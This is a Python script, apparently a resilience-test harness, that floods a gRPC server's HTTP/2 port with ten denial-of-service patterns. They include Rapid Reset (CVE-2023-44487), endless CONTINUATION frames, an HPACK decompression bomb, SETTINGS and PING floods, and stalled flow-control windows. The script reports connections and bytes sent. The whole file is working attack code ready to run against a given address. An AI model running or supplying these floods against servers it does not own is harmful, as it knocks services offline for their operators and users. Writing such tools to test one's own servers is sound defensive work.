"""flooder.py NAME ADDRESS SECONDS: sends a flood of HTTP/2 frames to a gRPC port and prints what came of it as JSON.

A process of its own, so that it does not take the processor from the threads that play other clients.
"""

import itertools
import json
import sys
import threading
import time

import http2
from http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                   frame, grpc_headers, grpc_message, literal)

METHOD = "/optserve.v1.Completion/Stream"
# prompt: "Call me", max_tokens: 900, ignore_eos: true
REQUEST = grpc_message(b"\x12\x09\x0a\x07Call me" + b"\x18\x84\x07" + b"\xa8\x01\x01")
JUNK = b"".join(literal(f"x-junk-{i}", "y" * 100) for i in range(120))  # of a frame's size


def streams():
    return itertools.count(1, 2)


def rapid_reset():
    """Requests that are taken back at once (CVE-2023-44487)."""
    head = grpc_headers(METHOD)
    for stream in streams():
        yield (frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, REQUEST) +
               frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))


def reset_before_body():
    head = grpc_headers(METHOD)
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))


def continuation():
    """Headers that never end (CVE-2024-27316 and its kin)."""
    yield frame(HEADERS, 0, 1, grpc_headers(METHOD))
    while True:
        yield frame(CONTINUATION, 0, 1, JUNK)


def empty_continuation():
    yield frame(HEADERS, 0, 1, grpc_headers(METHOD))
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def hpack_bomb():
    """A field of 3 KiB that goes into the table once and is then named by one byte each: 48 MiB in a frame."""
    keep = b"\x40" + http2.string("x-bomb") + http2.string("y" * 3000)
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, grpc_headers(METHOD) + keep + b"\xbe" * 12000)


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, b"\0\x04" + (65535).to_bytes(4, "big")) * 100


def pings():
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 100


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, grpc_headers(METHOD))
    while True:
        yield frame(DATA, 0, 1) * 100


def stalled_readers():
    """Requests by the hundred whose reader takes nothing: its window stays shut."""
    yield frame(SETTINGS, 0, 0, b"\0\x04" + bytes(4))
    for stream in range(1, 400, 2):
        yield frame(HEADERS, END_HEADERS, stream, grpc_headers(METHOD)) + frame(DATA, END_STREAM, stream, REQUEST)
    time.sleep(1)


def window_updates():
    yield frame(HEADERS, END_HEADERS, 1, grpc_headers(METHOD))
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")) * 100


FLOODS = (rapid_reset, reset_before_body, continuation, empty_continuation, hpack_bomb, settings, pings, empty_data,
          window_updates, stalled_readers)


def flood(name, address, seconds, counts, reads):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with http2.Peer(address) as peer:
            counts["connections"] += 1
            if reads:  # else the answers pile up, at the server for as far as it lets them
                threading.Thread(target=lambda frames=peer.frames(): [None for _ in frames], daemon=True).start()
            peer.socket.settimeout(1)
            for data in globals()[name]():
                if time.monotonic() >= end or not peer.send(data):
                    break
                counts["bytes"] += len(data)


def main():
    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    counts = {"connections": 0, "bytes": 0}
    threads = [threading.Thread(target=flood, args=(name, address, seconds, counts, reads)) for reads in (True, False)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
